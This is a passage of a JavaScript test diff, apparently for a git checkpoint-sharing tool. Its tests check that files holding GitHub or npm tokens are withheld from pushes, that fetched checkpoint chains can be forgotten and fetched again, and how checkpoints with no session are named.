+    's-clean': ['clean.bin', Buffer.concat([Buffer.alloc(100), Buffer.from('no credential here'), Buffer.alloc(100)])],
+  };
+  for (const [id, [file, bytes]] of Object.entries(files)) {
+    await session(a, id, [() => writeFileSync(path.join(a.ws, file), bytes)]);
+    rmSync(path.join(a.ws, file));
+    await ckptJson(a, ['snapshot']);
+  }
+  await ckptJson(a, ['share', 'init', '--remote', remote]);
+  // What an older git-ckpt's scan cached for the SQLite file: no credential (it skipped binary files).
+  const { FILE_RULES_VERSION } = await import(libPath('redact'));
+  const oldKey = createHash('sha256').update(FILE_RULES_VERSION).digest('hex').slice(0, 16);
+  const sqliteBlob = spawnSync('git', ['hash-object', '--stdin'], { input: files['s-bin'][1], encoding: 'utf8' }).stdout.trim();
+  writeFileSync(
+    path.join(storeDir(a), 'share.json'),
+    JSON.stringify({ ...shareState(a), scanned: { [sqliteBlob]: '' }, scannedWith: oldKey }),
+  );
+
+  const dry = await ckptJson(a, ['push', '--all', '--dry-run']);
+  const by = Object.fromEntries(dry.sessions.map((s) => [s.session, s]));
+  t.like(by['s-bin'].withheld, { path: 'dev.sqlite3', count: 1 });
+  t.regex(by['s-bin'].withheld.rule, /GitHub token/);
+  t.like(by['s-le'].withheld, { path: 'notes-le.txt', line: 1 });
+  t.regex(by['s-le'].withheld.rule, /npm token/);
+  t.like(by['s-be'].withheld, { path: 'notes-be.txt' });
+  t.is(by['s-clean'].withheld, null);
+  await ckptJson(a, ['push', '--all']);
+  const onRemote = spawnSync('git', ['--git-dir', remote, 'cat-file', '--batch-all-objects', '--batch'], {
+    env: a.env,
+    maxBuffer: 1 << 28,
+  }).stdout;
+  t.false(onRemote.includes(Buffer.from(github)), 'the GitHub token never reached the remote');
+  t.false(onRemote.includes(Buffer.from(npm, 'utf16le')));
+  t.true(onRemote.includes(Buffer.from('no credential here')), 'a binary file without one goes');
+});
+
+test('a fetched chain is forgotten only when named: its session (or one of its checkpoints and what follows it), with its tracking ref; a later fetch brings it back', async (t) => {
+  const a = machine();
+  const b = machine();
+  const remote = bareRemote(a);
+  write(a, 'f.txt', '0\n');
+  await ckptJson(a, ['snapshot']);
+  await session(a, 'theirs', [() => write(a, 'f.txt', '1\n'), () => write(a, 'f.txt', '2\n')]);
+  const { ws, writer } = await ckptJson(a, ['share', 'init', '--remote', remote]);
+  await ckptJson(a, ['push']);
+  write(b, 'b.txt', 'b\n');
+  await ckptJson(b, ['snapshot']);
+  await ckptJson(b, ['share', 'init', '--remote', remote, '--ws', ws]);
+  await ckptJson(b, ['fetch']);
+  const shadow = path.join(storeDir(b), 'git');
+  const tracked = () => git(b, shadow, ['for-each-ref', '--format=%(refname)', 'refs/ckpt-remote/']).trim();
+  t.not(tracked(), '');
+  const [latest, first] = (await ckptJson(b, ['log'])).filter((r) => r.origin && r.session !== null);
+
+  // Naming a checkpoint of it: that one and every later one of its chain go.
+  const one = await ckptJson(b, ['forget', latest.id.slice(0, 10)]);
+  t.deepEqual(one.fetchedDropped, [{ session: `theirs@${writer}`, checkpoints: 1, remotes: ['ckpt'] }]);
+  t.is(one.dropped.length, 0, 'nothing of this workspace');
+  t.is(tracked(), '', 'its tracking ref goes with it');
+  t.is((await ckpt(b, ['fsck'])).code, 0);
+  t.is((await ckpt(b, ['restore', first.id, '--dry-run'])).code, 0, 'what came before it stays');
+  // Naming the session: all of it, and its base.
+  const whole = await ckpt(b, ['forget', '--session', `theirs@${writer.slice(0, 6)}`]);
+  t.is(whole.code, 0, whole.stderr);
+  t.regex(whole.stdout, /fetched: dropped 2 checkpoints of theirs@[0-9a-f]{12} \(from ckpt; a later git ckpt fetch brings them back/);
+  t.false(
+    (await ckptJson(b, ['log'])).some((r) => r.origin),
+    'none is left',
+  );
+  t.is((await ckpt(b, ['fsck'])).code, 0);
+  t.is((await ckptJson(b, ['log'])).length, 1, "B's own checkpoint stays");
+  // The remote still has it: a fetch brings it back whole.
+  t.like((await ckptJson(b, ['fetch'])).fetched, [{ session: 'theirs', added: 3 }]);
+});
+
+test('checkpoints of no session are named --session _none wherever a session is asked for: forget names them so, unpush and push take it', async (t) => {
+  const a = machine();
+  const remote = bareRemote(a);
+  write(a, 'app.txt', 'app\n');
+  await ckptJson(a, ['snapshot']);
+  write(a, 'creds.txt', 'hunter2\n');
+  await ckptJson(a, ['snapshot']);
+  await ckptJson(a, ['share', 'init', '--remote', remote]);
+  t.like((await ckptJson(a, ['push', '--all'])).sessions, [{ session: null, status: 'pushed' }]);
+  const forgot = await ckpt(a, ['forget', '--path', 'creds.txt']);
+  t.regex(forgot.stdout, /git ckpt unpush --session _none deletes its ref there/);
+  const refused = await ckpt(a, ['push', '--all']);
+  t.regex(refused.stdout, /git ckpt unpush --session _none deletes that ref/);
+  t.is((await ckpt(a, ['unpush', '--session', '_none'])).code, 0);
+  t.like((await ckptJson(a, ['push', '--session', '_none'])).sessions, [{ session: null, status: 'pushed' }]);
+  const pushed = git(a, remote, ['log', '--format=', '--name-only', '--all']);
+  t.false(pushed.includes('creds.txt'));
 });
